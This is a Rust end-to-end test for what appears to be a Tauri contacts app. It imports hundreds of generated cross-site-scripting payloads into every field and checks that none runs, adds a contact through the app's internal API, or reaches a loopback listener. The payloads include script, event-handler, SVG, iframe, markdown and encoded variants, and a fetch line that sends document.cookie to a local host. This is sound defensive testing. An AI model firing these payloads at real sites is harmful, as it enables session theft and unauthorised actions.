//! Hostile text in the real window: in every field of every screen it is shown as it was typed, and does nothing.
//!
//! The texts are made here from ways out of a context, elements that run something, and what they would run. What they
//! would do leaves a trace: a mark in the page, a contact of a certain name, or a visit at a listener on loopback.

use std::net::TcpListener;

use anyhow::{Result, ensure};
use serde_json::{Value, json};

use crate::harness::{NOW, Window, journey};

/// Texts at least, in every field.
const FEWEST: usize = 500;
/// The name of the contact that a command run by a text would make.
const TRACE: &str = "Mallory";

#[test]
fn no_text_runs_calls_a_command_or_reaches_a_listener_whatever_screen_shows_it() -> Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    listener.set_nonblocking(true)?;
    let texts = texts(listener.local_addr()?.port());
    ensure!(texts.len() >= FEWEST, "{} texts", texts.len());
    let beside = tempfile::tempdir()?;
    let archive = beside.path().join("hostile.json");
    std::fs::write(&archive, archive_of(&texts).to_string())?;
    journey("hostile", &["--now", NOW], async |window| {
        window.see("button", "Choose a file").await?;
        let report = window.call("import", json!({ "paths": [archive] })).await?;
        ensure!(report["added"].as_u64() >= Some(texts.len() as u64), "{report}");
        window.call("settings_set", json!({ "welcomed": true })).await?;
        let before = window.call("status", json!({})).await?;
        look_everywhere(window).await?;
        errors_and_undo(window, &texts).await?;
        let after = window.call("status", json!({})).await?;
        ensure!(before["contacts"] == after["contacts"], "a command was called: {before} {after}");
        let made = window.call("contact_list", json!({ "query": TRACE })).await?;
        ensure!(!names_of(&made).iter().any(|name| name == TRACE), "a text made a contact");
        ensure!(window.opened().is_empty(), "{:?}", window.opened());
        Ok(())
    })?;
    let visit = listener.accept();
    ensure!(visit.is_err(), "something came to the listener: {visit:?}");
    Ok(())
}

/// Every screen with every text: lists, pages, passages, the journal, choices, the palette.
async fn look_everywhere(window: &Window) -> Result<()> {
    let people = window.call("contact_list", json!({ "limit": 10_000 })).await?;
    let ids: Vec<i64> =
        people["people"].as_array().into_iter().flatten().filter_map(|one| one["id"].as_i64()).collect();
    for address in ["#/today", "#/people", "#/journal", "#/who-matters", "#/settings/history"] {
        look(window, &[address.to_owned()]).await?;
        window.script(SCROLL, vec![]).await?;
        look(window, &[address.to_owned()]).await?;
    }
    let searches = ["script", "onerror", "alert", "svg", "http", "img src"].map(|words| format!("#/search?q={words}"));
    look(window, &searches).await?;
    look(window, &ids.iter().map(|id| format!("#/people/{id}")).collect::<Vec<_>>()).await?;
    // The same words stand in the fields; some of each kind are enough.
    look(window, &ids.iter().step_by(7).map(|id| format!("#/people/{id}/details")).collect::<Vec<_>>()).await
}

/// What is said when something fails or is taken back.
async fn errors_and_undo(window: &Window, texts: &[String]) -> Result<()> {
    window.go_to("#/people").await?;
    for text in texts.iter().step_by(texts.len() / 12) {
        window.press("Ctrl+L").await?;
        window.see("dialog", "What happened?").await?;
        window.type_into("combobox", "With", &text.replace('\n', " ")).await?;
        window.press("Escape").await?;
        window.press("Escape").await?;
        window.see_no("dialog", "What happened?").await?;
        clean(window).await?;
    }
    window.press("Home").await?;
    window.press("Delete").await?;
    window.see("button", "Undo").await?;
    clean(window).await?;
    window.press("Ctrl+Z").await?;
    window.see_text("Undone").await?;
    clean(window).await
}

/// Goes to addresses one after the other, and looks at each when it is painted.
async fn look(window: &Window, addresses: &[String]) -> Result<()> {
    for some in addresses.chunks(50) {
        let found = window.client()?.execute_async(LOOK, vec![json!(some)]).await?;
        ensure!(found == json!([]), "{found}");
    }
    Ok(())
}

/// Looks at what is shown now.
async fn clean(window: &Window) -> Result<()> {
    let here = window.script("return location.hash", vec![]).await?;
    look(window, &[here.as_str().unwrap_or_default().to_owned()]).await
}

/// Answers what stands in the page and should not: a mark that was set, or an element that a text made.
const LOOK: &str = "
    const [addresses, done] = arguments;
    const painted = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 60)));
    const elements = 'script:not([type=module]), iframe, object, embed, base, meta[http-equiv], form[action], math, video, audio, marquee, style[onload], link[href*=\"127.0.0.1\"], img[src^=http], [srcdoc], [formaction], [onerror], [onload], [onclick], [onfocus], [ontoggle], [onstart], [onmouseover], [onanimationstart], a[href^=javascript], a[href^=data], svg [href]';
    (async () => {
        const found = [];
        for (const address of addresses) {
            location.hash = address;
            await painted();
            if (window.ran !== undefined) found.push(`${address}: a text ran: ${window.ran}`);
            for (const one of document.querySelectorAll(elements)) found.push(`${address}: ${one.outerHTML.slice(0, 200)}`);
        }
        return found;
    })().then(done, (error) => done([String(error)]));";

/// Scrolls whatever scrolls to its end.
const SCROLL: &str = "
    for (const one of document.querySelectorAll('*')) if (one.scrollHeight > one.clientHeight + 20) one.scrollTo(0, one.scrollHeight);";

fn names_of(list: &Value) -> Vec<String> {
    let people = list["people"].as_array().into_iter().flatten();
    people.filter_map(|one| one["name"].as_str().map(str::to_owned)).collect()
}

/// The texts: every way out of a context, before every element, with something to run.
fn texts(port: u16) -> Vec<String> {
    let marks = [
        "window.ran=1".to_owned(),
        format!("window.ran=fetch('http://127.0.0.1:{port}/'+document.cookie)"),
        format!("window.ran=__TAURI_INTERNALS__.invoke('call',{{command:'contact_add',input:{{name:'{TRACE}'}}}})"),
    ];
    let out = ["", "\">", "'>", "</textarea>", "</title>", "</style>", "--></script>", "`}}"];
    let mut texts = Vec::new();
    for (number, way) in out.iter().enumerate() {
        for mark in &marks {
            texts.extend(elements(mark, port).into_iter().map(|element| format!("{way}{element}")));
        }
        // What needs no element: attributes that are broken out of, templates, addresses.
        texts.push(format!("{way} onmouseover={} x={number}", marks[0]));
        texts.push(format!("{way}${{{}}}{{{{constructor.constructor('{}')()}}}}", marks[0], marks[0]));
    }
    texts
}

/// Elements that run something, or fetch something, or lead somewhere.
fn elements(mark: &str, port: u16) -> Vec<String> {
    let here = format!("http://127.0.0.1:{port}");
    let coded: String = mark.chars().map(|c| format!("&#{};", u32::from(c))).collect();
    vec![
        format!("<script>{mark}</script>"),
        format!("<ScRiPt >{mark}</sCrIpT >"),
        format!("<script src={here}/s.js></script>"),
        format!("<img src=x onerror=\"{mark}\">"),
        format!("<img src=\"{here}/i.png\" onload=\"{mark}\">"),
        format!("<svg onload=\"{mark}\"></svg>"),
        format!("<svg><animate onbegin=\"{mark}\" attributeName=x dur=1s></svg>"),
        format!("<svg><a href=\"javascript:{mark}\"><text>x</text></a></svg>"),
        format!("<math><mi xlink:href=\"javascript:{mark}\">x</mi></math>"),
        format!("<iframe srcdoc=\"<script>parent.{mark}</script>\"></iframe>"),
        format!("<iframe src=\"javascript:{mark}\"></iframe>"),
        format!("<details open ontoggle=\"{mark}\">x</details>"),
        format!("<input autofocus onfocus=\"{mark}\">"),
        format!("<video><source onerror=\"{mark}\"></video>"),
        format!("<body onload=\"{mark}\">"),
        format!(
            "<style>@import '{here}/c.css';@keyframes a{{}}b{{animation:a}}</style><b onanimationstart=\"{mark}\">x</b>"
        ),
        format!("<link rel=stylesheet href=\"{here}/l.css\">"),
        format!("<meta http-equiv=refresh content=\"0;url={here}/m\">"),
        format!("<base href=\"{here}/\"><object data=\"{here}/o\"></object><embed src=\"{here}/e\">"),
        format!("<form action=\"{here}/f\"><button autofocus formaction=\"javascript:{mark}\">x</button></form>"),
        format!("<a href=\"javascript:{coded}\">x</a>"),
        format!("<img src=x one&#114;ror={coded}>"),
        format!("[x](javascript:{mark}) ![y]({here}/md.png) <javascript:{mark}>"),
        format!("[x]: data:text/html,<script>{mark}</script>\n[x] ![z](data:image/svg+xml,<svg onload={mark}>)"),
        format!(
            "<template><script>{mark}</script></template><noscript><p title=\"</noscript><img src=x onerror={mark}>\">"
        ),
    ]
}

/// An archive of people who have such a text in every field, with conversations, promises, feedback and groups.
fn archive_of(texts: &[String]) -> Value {
    let each = |make: &dyn Fn(usize, &String) -> Value| -> Vec<Value> {
        texts.iter().enumerate().map(|(number, text)| make(number, text)).collect()
    };
    let contacts = each(&|number, text| {
        let points = json!([{ "value": text, "label": text }]);
        json!({
            "uid": format!("p{number}"), "name": text, "kind": "person", "given": text, "family": text,
            "nicknames": [text], "org": text, "title": text, "about": text, "expectations": text,
            "addresses": points, "urls": points, "groups": [text], "cadence": { "every": 60, "unit": "day" },
            "facts": [{ "text": text, "kind": "personal" }, { "text": text, "kind": "wants" }],
            "occasions": [{ "kind": "custom", "date": "--11-25", "label": text }],
        })
    });
    let conversations = each(&|number, text| {
        let with = format!("p{number}");
        json!({
            "uid": format!("c{number}"), "start": "2026-08-01T15:20:00+02:00", "minutes": 20, "channel": "call",
            "people": [with], "place": text, "note": text,
            "exchanges": [{ "direction": "asked", "kind": "favour", "text": text, "with": with }],
        })
    });
    let follow_ups = each(
        &|number, text| json!({ "uid": format!("f{number}"), "with": format!("p{number}"), "kind": "promise", "text": text, "due": "2026-11-20" }),
    );
    let feedback = each(
        &|number, text| json!({ "uid": format!("b{number}"), "with": format!("p{number}"), "score": 9, "text": text, "day": "2026-10-01" }),
    );
    json!({
        "kith_archive": 1, "exported_at": "2026-11-21T09:00:00Z", "contacts": contacts, "conversations": conversations,
        "follow_ups": follow_ups, "feedback": feedback, "groups": [], "settings": {},
    })
}
